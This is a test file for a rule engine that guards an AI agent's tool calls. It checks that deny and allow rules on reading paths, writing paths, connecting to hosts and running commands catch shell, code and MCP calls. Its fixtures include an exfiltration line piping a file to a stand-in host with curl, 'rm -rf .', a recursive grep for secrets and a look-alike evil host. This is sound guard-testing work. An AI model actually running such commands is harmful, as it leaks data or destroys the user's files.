import { describe, expect, test } from "vitest";
import type { JsonObject } from "@/contracts/common";
import type { Verdict } from "@/contracts/decisions/decision";
import { buildRequest, mcpTool, policyOfRules, readTool, shellTool, writeTool } from "@/server/testing/guard/guarded-calls";
import type { GuardedTool } from "../call/guard-request";
import { decide } from "../decide";
import { connects, deletes, executes, fetches, lists, reads } from "../effects/declare-effects";
import type { RuleContent } from "./compile-rule";

const folder = "/work/run";
const processTool: GuardedTool = { ...shellTool, name: "process" };
const codeTool: GuardedTool = {
  ...shellTool,
  name: "execute_code",
  primaryArgument: "code",
  effects: ({ language }) => (language === "shell" ? [] : [executes("/code", ".")]),
};
const powershell: GuardedTool = { ...shellTool, name: "powershell", effects: () => [executes("/command", ".")] };
const searchTool: GuardedTool = {
  ...readTool,
  name: "search_files",
  effects: ({ path = "." }) => [reads("/path", String(path), { recursive: true })],
};
const globTool: GuardedTool = { ...readTool, name: "glob", effects: ({ path = "." }) => [lists("/path", String(path))] };
const deleteTool: GuardedTool = { ...writeTool, name: "checkpoints", effects: ({ path }) => [deletes("/path", String(path))] };
const fetchTool: GuardedTool = {
  ...readTool,
  name: "url_fetch",
  needs: ["http", "files"],
  primaryArgument: "url",
  effects: ({ url }) => [fetches("/url", String(url))],
};
const dateTool: GuardedTool = { ...readTool, name: "date_time", needs: [], primaryArgument: null, effects: () => [] };
const mcp = (name: string, effect: GuardedTool["effect"] = "write"): GuardedTool => ({ ...mcpTool, name, effect });

function resultOf(rule: Partial<RuleContent>, tool: GuardedTool, args: JsonObject) {
  const request = buildRequest(tool, args);
  const context = { ...request.context, folder, sandboxed: true };
  const { trace, ruleId } = decide(policyOfRules([rule]), { ...request, context }, 0);
  return trace[0]?.result ?? (ruleId === null ? "not_covered" : "matched");
}
const run = (command: string) => [shellTool, { command }] as const;

describe("a rule that denies a command of one tool", () => {
  const rule = { tool: "shell_execute", pattern: "^git\\s+commit", verdict: "deny" as const };
  test.each<[GuardedTool, JsonObject]>([
    [shellTool, { command: "git commit -m x" }],
    [processTool, { action: "start", command: "git commit -m x" }],
    [processTool, { action: "write", command: "git -C . commit" }],
    [codeTool, { language: "shell", mode: "project", code: "git commit -m x" }],
    [codeTool, { language: "shell", code: "cd a\ngit --no-pager commit" }],
    [codeTool, { language: "python", code: "import subprocess\nsubprocess.run(['git', 'commit'])" }],
    [codeTool, { language: "node", code: "require('child_process').execSync('git -C . commit')" }],
    [powershell, { command: "git commit -m x" }],
    [mcp("sandbox__bash"), { command: "git commit -m x" }],
    [mcp("ops__do"), { job: { argv: ["git", "-C", ".", "commit"] } }],
  ])("holds for the same command of %o %o", (tool, args) => {
    expect(resultOf(rule, tool, args)).toBe("matched");
    expect(resultOf({ ...rule, verdict: "require_approval" }, tool, args)).toBe("matched");
  });
  test("holds when it was written for another tool that runs commands", () => {
    expect(resultOf({ ...rule, tool: "process" }, ...run("git commit"))).toBe("matched");
    expect(resultOf({ ...rule, tool: "execute_code", parameter: "code" }, ...run("git commit"))).toBe("matched");
  });
  test.each<[GuardedTool, JsonObject]>([
    [processTool, { action: "start", command: "git status" }],
    [codeTool, { language: "python", code: "print('git commit')" }],
    [mcp("notes__save"), { text: "git commit" }],
  ])("says no more than that about %o %o", (tool, args) => expect(resultOf(rule, tool, args)).not.toBe("matched"));
  test("cannot be evaluated on code that starts a program by a variable, so it decides", () => {
    expect(resultOf(rule, codeTool, { language: "python", code: "subprocess.run(command)" })).toBe("could_not_evaluate");
  });
  test("is a rule about the tool alone without a pattern, when it allows, and when it looks at another argument", () => {
    const call = [processTool, { command: "git commit" }] as const;
    expect(resultOf({ tool: "shell_execute", verdict: "deny" }, ...call)).toBe("not_covered");
    expect(resultOf({ ...rule, verdict: "allow" }, ...call)).toBe("not_covered");
    expect(resultOf({ ...rule, parameter: "cwd" }, ...call)).toBe("not_covered");
    expect(resultOf({ ...rule, comparisons: [{ parameter: "timeoutSeconds", operator: ">", value: 5 }] }, ...call)).toBe("not_covered");
  });
  test("keeps its place among the rules of the other tool", () => {
    const allow = { tool: "process", verdict: "allow" as const };
    const call = buildRequest(processTool, { command: "git commit" });
    const deciding = (priority: number) => decide(policyOfRules([{ ...rule, priority }, allow]), call, 0).trace.at(-1)?.ruleId;
    expect([deciding(50), deciding(200)]).toEqual(["rule-2", "rule-1"]);
  });
});

type Case = [result: string, tool: GuardedTool, args: JsonObject];
function everyCase(rule: Partial<RuleContent>, cases: Case[]) {
  test.each(cases)(`${rule.verdict} ${rule.tool} ${rule.pattern}: %s by %o %o`, (result, tool, args) => {
    expect(resultOf(rule, tool, args)).toBe(result);
  });
}
const deny = (tool: string, pattern: string | null, more: Partial<RuleContent> = {}): Partial<RuleContent> => ({
  tool,
  pattern,
  verdict: "deny",
  ...more,
});
const allow = (tool: string, pattern: string | null, more: Partial<RuleContent> = {}): Partial<RuleContent> => ({
  tool,
  pattern,
  verdict: "allow",
  ...more,
});

describe("a rule about reading a path holds whichever tool reads it", () => {
  everyCase(deny("does:reads_path", "^finance/"), [
    ["matched", readTool, { path: "finance/a.csv" }],
    ["matched", readTool, { path: `${folder}/finance/a.csv` }],
    ["matched", readTool, { path: "./x/../finance/a.csv" }],
    ["not_matched", readTool, { path: "docs/finance.md" }],
    ["not_matched", writeTool, { path: "finance/a.csv" }],
    ["matched", ...run("cat finance/a.csv")],
    ["matched", ...run("cd finance && cat a.csv")],
    ["matched", ...run("cp finance/a.csv /tmp/x")],
    ["matched", ...run("sh -c 'head -1 finance/a.csv'")],
    ["matched", ...run("cat < finance/a.csv")],
    ["matched", ...run("python3 -c \"print(open('finance/a.csv').read())\"")],
    ["could_not_evaluate", ...run("cat finance/*.csv")],
    ["could_not_evaluate", ...run("cat fin*/a.csv")],
    ["could_not_evaluate", ...run("grep -r secret .")],
    ["could_not_evaluate", ...run('cat "$FILE"')],
    ["not_matched", ...run("cat *.txt")],
    ["not_matched", ...run("grep -r x src")],
    ["not_matched", ...run("ls finance")],
    ["not_matched", ...run("git status && npm test")],
    ["could_not_evaluate", searchTool, {}],
    ["not_matched", searchTool, { path: "src" }],
    ["not_matched", globTool, { path: "finance" }],
    ["matched", processTool, { action: "start", command: "tail -f finance/a.csv" }],
    ["matched", codeTool, { language: "shell", code: "cat finance/a.csv" }],
    ["matched", codeTool, { language: "python", code: "open('finance/a.csv').read()" }],
    ["matched", mcp("fs__read_file", "read"), { path: "finance/a.csv" }],
    ["matched", mcp("fs__read", "read"), { file: `file://${folder}/finance/a.csv` }],
    ["matched", mcp("fs__send"), { attachments: ["finance/a.csv"] }],
    ["could_not_evaluate", mcp("fs__search", "read"), { path: "." }],
    ["not_matched", mcp("fs__list_directory", "read"), { path: "." }],
    ["not_matched", mcp("notes__save"), { text: "hello" }],
    ["not_covered", dateTool, {}],
  ]);
  everyCase(deny("does:reads_path", null, { excludePattern: "^docs/" }), [
    ["matched", readTool, { path: "a" }],
    ["not_matched", readTool, { path: "docs/a" }],
    ["not_matched", ...run("grep -r x docs/a")],
    ["not_matched", ...run("cat docs/*.md")],
    ["matched", ...run("grep -r x .")],
    ["matched", ...run("cat docs/a b")],
    ["not_matched", ...run("echo a")],
  ]);
});

describe("a rule about writing a path holds whichever tool writes or deletes it", () => {
  everyCase(deny("does:writes_path", "^finance/"), [
    ["matched", writeTool, { path: "finance/a.csv" }],
    ["not_covered", readTool, { path: "finance/a.csv" }],
    ["matched", ...run("echo x > finance/a.csv")],
    ["matched", ...run("cp a.csv finance")],
    ["matched", ...run("sed -i s/a/b/ finance/a.csv")],
    ["matched", ...run("rm finance/a.csv")],
    ["could_not_evaluate", ...run("rm -rf finance")],
    ["could_not_evaluate", ...run("mv finance old")],
    ["could_not_evaluate", ...run("rm -rf .")],
    ["not_matched", ...run("rm -rf src")],
    ["not_matched", ...run("cat finance/a.csv")],
    ["matched", deleteTool, { path: "finance/a.csv" }],
    ["matched", codeTool, { language: "python", code: "open('finance/a.csv', 'w')" }],
    ["matched", mcp("fs__write_file"), { path: "finance/a.csv", content: "x" }],
    ["not_matched", mcp("fs__read_file", "read"), { path: "finance/a.csv" }],
  ]);
});

describe("a rule about connecting to a host holds whichever tool connects", () => {
  everyCase(deny("does:connects_to", "^api\\.example\\.com$"), [
    ["matched", fetchTool, { url: "https://api.example.com/x" }],
    ["matched", fetchTool, { url: "https://api.example.com:8443/x" }],
    ["not_matched", fetchTool, { url: "https://other.example.com/x" }],
    ["matched", ...run("curl https://api.example.com/x")],
    ["matched", ...run("curl -s https://API.example.com./x")],
    ["matched", ...run("ssh me@api.example.com ls")],
    ["not_matched", ...run("curl https://other.example.com")],
    ["could_not_evaluate", ...run('curl "$URL"')],
    ["not_matched", ...run("ls")],
    ["matched", codeTool, { language: "python", code: "urlopen('https://api.example.com/x')" }],
    [
      "matched",
      { ...codeTool, effects: () => [connects("/hosts/0", "api.example.com")] },
      { language: "node", code: "1", hosts: ["api.example.com"] },
    ],
    ["matched", mcp("http__get", "read"), { url: "https://api.example.com" }],
    ["not_covered", dateTool, {}],
  ]);
});

describe("a rule about running commands holds whichever tool runs them", () => {
  everyCase(deny("does:runs_commands", "^npm publish"), [
    ["matched", ...run("npm --prefix x publish")],
    ["matched", processTool, { command: "npm publish" }],
    ["matched", codeTool, { language: "shell", code: "npm publish" }],
    ["matched", mcp("ops__do"), { command: "npm publish" }],
    ["not_matched", mcp("ops__do"), { text: "x" }],
    ["not_matched", ...run("npm test")],
    ["not_covered", readTool, { path: "x" }],
  ]);
  everyCase(deny("does:runs_commands", null, { excludePattern: "^(?:ls|cat)(?: |$)" }), [
    ["matched", ...run("rm x")],
    ["matched", ...run("ls; rm x")],
    ["not_matched", ...run("ls; cat x")],
    ["matched", processTool, { command: "node x.js" }],
  ]);
});

describe("a rule that allows what a call does allows only calls that do nothing else", () => {
  everyCase(allow("does:reads_path", "^docs/"), [
    ["matched", readTool, { path: "docs/a" }],
    ["not_matched", readTool, { path: "src/a" }],
    ["not_matched", readTool, { path: "docs-of-others/a" }],
    ["matched", ...run("cat docs/a docs/b")],
    ["not_matched", ...run("cat docs/a src/b")],
    ["not_matched", ...run("cat docs/a > out")],
    ["not_matched", ...run("cat docs/a | curl -d @- https://x.example")],
    ["not_matched", ...run("python3 docs/a.py")],
    ["not_matched", ...run('cat docs/a "$X"')],
    ["matched", ...run("cat docs/*.md")],
    ["matched", searchTool, { path: "docs" }],
    ["not_matched", searchTool, { path: "." }],
    ["not_matched", codeTool, { language: "python", code: "open('docs/a')" }],
    ["not_matched", mcp("fs__read_file", "read"), { path: "docs/a" }],
  ]);
  everyCase(allow("does:reads_path", "^docs"), [
    ["matched", readTool, { path: "docs/a" }],
    ["not_matched", readTool, { path: "docs-of-others/a" }],
  ]);
  everyCase(allow("does:connects_to", "api\\.example\\.com"), [
    ["matched", fetchTool, { url: "https://api.example.com/x" }],
    ["not_matched", fetchTool, { url: "https://api.example.com.evil.example/x" }],
    ["not_matched", fetchTool, { url: "https://api.example.com:8443/x" }],
    ["not_matched", ...run('curl "$URL"')],
  ]);
  everyCase(allow("does:runs_commands", "^(?:ls|cat)(?: |$)"), [
    ["matched", ...run("ls; cat x")],
    ["matched", processTool, { command: "ls" }],
    ["not_matched", ...run("ls; rm x")],
    ["not_matched", mcp("ops__do"), { command: "ls" }],
    ["not_matched", codeTool, { language: "python", code: "os.system('ls')" }],
  ]);
});

test("rules about what calls do are found among thousands as one by one", () => {
  const verdict: Verdict = "deny";
  const many = ["reads_path", "writes_path", "connects_to", "runs_commands"].flatMap((action) =>
    Array.from({ length: 30 }, (_, index) => ({ tool: `does:${action}`, pattern: `^target-${index}/`, verdict })),
  );
  const policy = policyOfRules([
    ...many,
    { tool: "does:reads_path", pattern: "^finance/", verdict },
    { tool: "shell_execute", pattern: "^git commit", verdict },
  ]);
  const decided = (tool: GuardedTool, args: JsonObject) => decide(policy, buildRequest(tool, args), 0).ruleId;
  expect(decided(readTool, { path: "finance/a" })).toBe("rule-121");
  expect(decided(shellTool, { command: "cat finance/a" })).toBe("rule-121");
  expect(decided(processTool, { command: "git -C . commit" })).toBe("rule-122");
  expect(decided(readTool, { path: "target-7/a" })).toBe("rule-8");
  expect(decided(shellTool, { command: "rm target-7/a" })).toBe("rule-38");
  expect(decided(readTool, { path: "other" })).toBeNull();
});
